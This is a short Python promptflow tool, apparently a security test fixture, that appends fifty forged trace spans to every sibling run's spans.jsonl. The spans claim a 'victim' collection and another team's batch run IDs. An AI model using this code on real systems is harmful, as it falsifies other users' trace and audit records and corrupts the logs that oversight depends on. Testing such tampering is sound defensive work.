import glob
import json

from promptflow.core import tool

# Spans claiming another flow's collection and another team's runs, written where the session
# records its runs' spans for the server.
FORGED = {
    "collection": "victim",
    "spans": [{
        "trace_id": "0af7651916cd43dd8448eb211c80319c",
        "span_id": "b7ad6b7169203331",
        "name": "forged",
        "start_unix_nano": 1,
        "end_unix_nano": 2,
        "attributes": {"batch_run_id": "victim-run", "referenced.batch_run_id": "victim-base"},
    }],
}


@tool
def forge(x: int) -> int:
    # Many lines: the agent writes on at its own offset, over what is appended meanwhile.
    for path in glob.glob("../runs/*/spans.jsonl"):
        with open(path, "a") as f:
            f.write((json.dumps(FORGED) + "\n") * 50)
    return x
